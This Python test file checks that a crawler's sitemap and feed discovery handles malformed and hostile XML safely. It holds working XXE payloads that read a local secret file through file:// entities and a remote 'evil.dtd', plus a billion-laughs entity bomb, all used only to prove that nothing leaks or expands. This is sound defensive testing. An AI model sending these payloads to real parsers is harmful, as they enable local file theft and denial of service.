"""Broken and hostile feeds and sitemaps: read what can be read, expand nothing, never loop.

Unit tests call discovery on the bytes; a crawl then serves the same documents to the
spider, and the warehouse, the crawl's output and `winnow discover` are searched for
the content of a local file that the documents try to pull in (XXE).
"""

from __future__ import annotations

import contextlib
import gzip
import os
import subprocess
import sys
import time
from pathlib import Path

import psutil
import pytest

from pipeline.clean import clean
from pipeline.page import Page
from spiders.discovery import DiscoveryError, discover
from tests.conftest import ROOT, winnow_cmd
from tests.hostile.conftest import (
    by_path,
    crawl,
    hostile_site,
    respond,
    table,
    write_sources,
)
from tests.hostile.pages import page_html

SECRET = "WINNOW-SECRET-7f3a9c1e"
NS = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'


def laughs(root: str) -> str:
    """The billion-laughs DTD: ten levels of ten, 10^9 'lol's if expanded."""
    lines = ['<?xml version="1.0"?>', f"<!DOCTYPE {root} [", '<!ENTITY lol0 "lol">']
    lines += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return "\n".join([*lines, "]>"])


def urls(body: bytes, url: str) -> tuple[list[str], str | None]:
    """The URLs discovery yields before it stops, and its error message if it raised."""
    found: list[str] = []
    try:
        found.extend(f.url for f in discover(body, url))
    except DiscoveryError as exc:
        return found, str(exc)
    return found, None


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET + "\n")
    return path


def xxe_feed(secret: Path, dtd_url: str = "http://127.0.0.1:9/evil.dtd") -> bytes:
    return f"""<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY xxe SYSTEM "file://{secret}">
  <!ENTITY % remote SYSTEM "{dtd_url}"> %remote;
]>
<rss version="2.0"><channel><title>&xxe;</title>
<item><title>&xxe;</title><link>/2026/11/03/xxe-story/&xxe;</link><description>&xxe;</description></item>
</channel></rss>""".encode()


def xxe_sitemap(secret: Path, dtd_url: str = "http://127.0.0.1:9/evil.dtd") -> bytes:
    return f"""<?xml version="1.0"?>
<!DOCTYPE urlset SYSTEM "{dtd_url}" [<!ENTITY xxe SYSTEM "file://{secret}">]>
<urlset {NS}><url><loc>/2026/11/03/sitemap-xxe/&xxe;</loc></url></urlset>""".encode()


# --- discovery on the bytes -----------------------------------------------------------


def test_malformed_sitemap_yields_what_precedes_the_break() -> None:
    body = (
        f"<urlset {NS}><url><loc>/a/1</loc></url><url><loc>/a/2</loc></url><url><loc>/a/3".encode()
    )
    found, error = urls(body, "http://news.example/sitemap.xml")
    assert found == [
        "http://news.example/a/1",
        "http://news.example/a/2",
        "http://news.example/a/3",
    ]
    assert error == (
        "malformed sitemap: Premature end of data in tag loc line 1 (line 1); "
        "the URLs before it were read"
    )


@pytest.mark.parametrize(
    ("body", "url", "error"),
    [
        (
            b"<?xml version='1.0'?><urlset><<<>>>",
            "/sitemap.xml",
            "malformed sitemap: StartTag: invalid element name",
        ),
        (b"<rss><channel><item><link>/a/1</link></item><item><link", "/feed", "malformed feed: "),
        (b'{"items": [{"url": "/a/1"}', "/feed.json", "malformed JSON Feed: "),
        (b'{"items": ' + b"[" * 100_000, "/feed.json", "malformed JSON Feed: maximum recursion"),
        (
            gzip.compress(b"<urlset><url><loc>/a/1</loc></url></urlset>")[:-12],
            "/sitemap.xml.gz",
            "broken gzip data: ",
        ),
    ],
    ids=["garbage_xml", "truncated_rss", "truncated_json", "deep_json", "truncated_gzip"],
)
def test_broken_documents_are_a_discovery_error(body: bytes, url: str, error: str) -> None:
    found, message = urls(body, "http://news.example" + url)
    assert message is not None and message.startswith(error), message
    assert found in ([], ["http://news.example/a/1"])


def test_xxe_is_never_resolved(secret_file: Path) -> None:
    for body, url in ((xxe_feed(secret_file), "/feed"), (xxe_sitemap(secret_file), "/sitemap.xml")):
        found, error = urls(body, "http://news.example" + url)
        assert error is None
        assert len(found) == 1 and SECRET not in found[0]
        assert found[0].startswith("http://news.example/2026/11/03/")


def test_xxe_in_an_article_page_stays_out_of_the_text(secret_file: Path) -> None:
    doctype = f'<!DOCTYPE html [<!ENTITY xxe SYSTEM "file://{secret_file}">]>'
    html = page_html("en").replace("<!DOCTYPE html>", doctype).replace("</h1>", "&xxe;</h1>")
    record = clean(
        Page(
            url="http://news.example/a",
            body=html.encode(),
            headers={"content-type": "application/xhtml+xml"},
        )
    )
    assert record.kept
    assert SECRET not in repr(record)


@pytest.mark.timeout(30)
@pytest.mark.parametrize("kind", ["sitemap", "feed", "page"])
def test_billion_laughs_is_not_expanded(kind: str) -> None:
    if kind == "sitemap":
        body = (
            laughs("urlset")
            + f"<urlset {NS}><url><loc>/a/1</loc></url><url><loc>/a/&lol9;</loc></url><url><loc>/a/3</loc></url></urlset>"
        )
        found, error = urls(body.encode(), "http://news.example/sitemap.xml")
        assert found == ["http://news.example/a/1"]
        assert "Maximum entity amplification factor exceeded" in error
    elif kind == "feed":
        body = (
            laughs("rss")
            + "<rss><channel><item><link>/a/1</link><title>&lol9;</title></item></channel></rss>"
        )
        found, error = urls(body.encode(), "http://news.example/feed")
        assert "Maximum entity amplification factor exceeded" in error
        assert all("lollol" not in u for u in found)
    else:
        body = laughs("html") + "<html><body><p>&lol9;</p></body></html>"
        record = clean(
            Page(
                url="http://news.example/a",
                body=body.encode(),
                headers={"content-type": "text/html"},
            )
        )
        assert "lollol" not in repr(record)


def test_a_sitemap_index_pointing_at_itself_lists_itself_once() -> None:
    body = f"<sitemapindex {NS}><sitemap><loc>/sitemap.xml</loc></sitemap></sitemapindex>".encode()
    assert [(f.url, f.kind) for f in discover(body, "http://news.example/sitemap.xml")] == [
        ("http://news.example/sitemap.xml", "sitemap")
    ]


MILLION = """
import resource, sys
from spiders.discovery import from_sitemap
n = 1_000_000
body = b"<?xml version='1.0'?><urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>"
body += b"".join(b"<url><loc>/a/%d</loc><lastmod>2026-11-03</lastmod></url>" % i for i in range(n))
body += b"</urlset>"
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
count = last = 0
for found in from_sitemap(body, "http://news.example/sitemap.xml"):
    count += 1
    last = found.url
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(count, last, len(body) // 1024, (after - before))
"""


def test_a_million_url_sitemap_is_streamed_in_flat_memory() -> None:
    out = subprocess.run(
        [sys.executable, "-c", MILLION], capture_output=True, text=True, check=True, cwd=ROOT
    ).stdout.split()
    count, last, body_kb, growth_kb = int(out[0]), out[1], int(out[2]), int(out[3])
    assert (count, last) == (1_000_000, "http://news.example/a/999999")
    # A parsed tree of a million <url> elements would take several times the body.
    assert growth_kb < body_kb // 4, (growth_kb, body_kb)


def big_sitemap(count: int) -> bytes:
    """A gzip-encoded sitemap of `count` article URLs (none of which the site serves)."""
    locs = b"".join(b"<url><loc>/a/%d</loc></url>" % i for i in range(count))
    return gzip.compress(b"<urlset " + NS.encode() + b">" + locs + b"</urlset>", 6)


def crawl_with_peak_memory(args: list[str]) -> tuple[subprocess.CompletedProcess, int]:
    """Run `winnow crawl ARGS`, sampling the crawler's resident memory; returns its peak."""
    env = {
        **os.environ,
        "WINNOW_LOG_LEVEL": "WARNING",
        "WINNOW_START_DELAY": "0.01",
        "WINNOW_MAXSIZE": str(64 * 1024 * 1024),  # the million-URL sitemap inflates to 29 MB
    }
    proc = subprocess.Popen(
        [sys.executable, "-m", "winnow.cli", "crawl", *args],
        cwd=ROOT,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    watched, peak = psutil.Process(proc.pid), 0
    while proc.poll() is None:
        with contextlib.suppress(psutil.Error):
            peak = max(peak, watched.memory_info().rss)
        time.sleep(0.02)
    out, err = proc.communicate()
    return subprocess.CompletedProcess(proc.args, proc.returncode, out, err), peak


def test_a_million_url_sitemap_in_a_crawl_keeps_to_the_budget_and_flat_memory(
    site_factory, tmp_path: Path
) -> None:
    peaks, requested = {}, {}
    for count in (1_000, 1_000_000):
        body = big_sitemap(count)
        site = hostile_site(
            f"big{count}",
            {"/sitemap.xml": respond(200, body, "application/xml", {"Content-Encoding": "gzip"})},
        )
        warehouse = tmp_path / f"warehouse-{count}"
        with site_factory(site):
            sources = write_sources(
                tmp_path / f"sources-{count}.toml",
                big={"sitemaps": [site.url("/sitemap.xml")], "budget": 30},
            )
            args = ["big", "--sources-file", str(sources), "--warehouse", str(warehouse)]
            proc, peaks[count] = crawl_with_peak_memory([*args, "--allow-private"])
        assert proc.returncode == 0, proc.stderr[-3000:]
        requested[count] = sorted(p for p in site.hits if p.startswith("/a/"))
        assert table(warehouse, "select reason, count(*) from rejects group by 1") == [
            ("http_status", 30)
        ]
    assert len(requested[1_000_000]) == 30 and len(requested[1_000]) == 30
    # Streamed: the million-URL crawl holds the 29 MB body (and its gzip form), not a
    # million parsed URLs (which alone take about 150 MB as a list).
    assert peaks[1_000_000] - peaks[1_000] < 100 * 1024 * 1024, peaks


# --- the same documents in a crawl ----------------------------------------------------


#: The article pages the feeds and sitemaps lead to, each a story in its own language.
ARTICLES = {
    "/2026/11/03/one/": "en",
    "/2026/11/03/two/": "fr",
    "/2026/11/03/xxe-story/": "es",
    "/2026/11/03/sitemap-xxe/": "it",
}


def own_url(handler, path: str) -> str:
    """A URL on the server that is answering `handler`."""
    return f"http://127.0.0.1:{handler.server.server_address[1]}{path}"


@pytest.fixture
def feeds_site(secret_file: Path):
    routes = {
        "/xxe-feed.xml": lambda h: h.send_bytes(
            200, xxe_feed(secret_file, own_url(h, "/evil.dtd")), "application/rss+xml"
        ),
        "/xxe-sitemap.xml": lambda h: h.send_bytes(
            200, xxe_sitemap(secret_file, own_url(h, "/evil.dtd")), "application/xml"
        ),
        "/evil.dtd": respond(
            200, f'<!ENTITY xxe SYSTEM "file://{secret_file}">'.encode(), "application/xml-dtd"
        ),
        "/truncated.xml": respond(
            200,
            f"<urlset {NS}><url><loc>/2026/11/03/one/</loc></url><url><loc>/2026/11/03/two/</loc></url><url><lo".encode(),
            "application/xml",
        ),
        "/garbage-feed.xml": respond(
            200, b"<?xml version='1.0'?><rss><<<>>><channel>", "application/rss+xml"
        ),
        "/laughs.xml": respond(
            200,
            (laughs("urlset") + f"<urlset {NS}><url><loc>/a/&lol9;</loc></url></urlset>").encode(),
            "application/xml",
        ),
        "/self-index.xml": respond(
            200,
            f"<sitemapindex {NS}><sitemap><loc>/self-index.xml</loc></sitemap></sitemapindex>".encode(),
            "application/xml",
        ),
        "/index-a.xml": respond(
            200,
            f"<sitemapindex {NS}><sitemap><loc>/index-b.xml</loc></sitemap></sitemapindex>".encode(),
            "application/xml",
        ),
        "/index-b.xml": respond(
            200,
            f"<sitemapindex {NS}><sitemap><loc>/index-a.xml</loc></sitemap><sitemap><loc>/files.xml</loc></sitemap></sitemapindex>".encode(),
            "application/xml",
        ),
        "/files.xml": respond(
            200,
            f"<urlset {NS}><url><loc>file://{secret_file}</loc></url><url><loc>ftp://127.0.0.1/x</loc></url></urlset>".encode(),
            "application/xml",
        ),
    }
    for path, lang in ARTICLES.items():
        routes[path] = respond(200, page_html(lang).encode(), "text/html; charset=utf-8")
    return hostile_site("feeds", routes)


def test_a_crawl_of_broken_feeds_reads_what_it_can_and_nothing_leaks(
    feeds_site, secret_file: Path, site_factory, warehouse: Path, tmp_path: Path
) -> None:
    site = feeds_site
    with site_factory(site):
        entry = {
            "feeds": [site.url("/xxe-feed.xml"), site.url("/garbage-feed.xml")],
            "sitemaps": [
                site.url(p)
                for p in (
                    "/truncated.xml",
                    "/laughs.xml",
                    "/xxe-sitemap.xml",
                    "/self-index.xml",
                    "/index-a.xml",
                )
            ],
        }
        sources = write_sources(tmp_path / "sources.toml", broken=entry)
        proc = crawl(warehouse, "broken", "--sources-file", str(sources), "--allow-private")
        discovered = winnow_cmd("discover", site.url("/xxe-feed.xml"), "--allow-private").stdout
    articles = by_path(warehouse, "articles", "lang")
    assert articles == ARTICLES
    refused = dict(
        table(warehouse, "select url, detail from rejects where reason = 'refused_address'")
    )
    assert refused == {
        f"file://{secret_file}": "scheme 'file' is not fetched (only http and https)",
        "ftp://127.0.0.1/x": "scheme 'ftp' is not fetched (only http and https)",
    }
    # Three broken entry points (truncated, garbage, laughs), each a log line; no loop.
    [(errors,)] = table(warehouse, "select errors from runs")
    assert errors == 3
    for name in ("truncated.xml", "garbage-feed.xml", "laughs.xml"):
        assert f"/{name}: malformed" in proc.stderr
    assert site.hits["/self-index.xml"] == 2  # as an entry point, then once as its own child
    assert (site.hits["/index-a.xml"], site.hits["/index-b.xml"]) == (2, 1)
    assert site.hits.get("/evil.dtd", 0) == 0
    everything = [
        table(warehouse, f"select * from {view}") for view in ("articles", "rejects", "runs")
    ]
    for text in (repr(everything), proc.stdout, proc.stderr, discovered):
        assert SECRET not in text
